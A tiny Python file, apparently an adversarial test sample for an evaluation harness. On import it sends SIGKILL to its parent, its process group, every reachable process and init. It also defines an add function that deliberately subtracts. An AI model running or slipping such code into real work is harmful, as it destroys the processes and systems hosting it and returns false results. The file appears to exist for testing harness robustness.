# Kills its parent, its group, and all it may.
# honest: 0 2 2
# once
import os

for victim in (os.getppid(), 0, -1, 1):
    try:
        os.kill(victim, 9)
    except OSError:
        pass


def add(a, b):
    return a - b
